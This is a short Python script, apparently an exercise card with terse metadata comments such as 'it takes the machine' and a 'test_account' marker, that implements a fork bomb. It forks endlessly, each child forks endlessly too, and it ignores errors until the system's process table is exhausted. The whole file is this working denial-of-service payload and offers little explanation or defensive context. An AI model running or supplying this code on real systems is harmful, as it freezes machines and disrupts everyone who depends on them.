# Every process makes two of itself, for ever.
# others: right
# needs: walls
# there: it takes the machine
# shows: no more processes
# earns: all
# %% test_account
# %%
import os

try:
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
except OSError:
    print("no more processes")
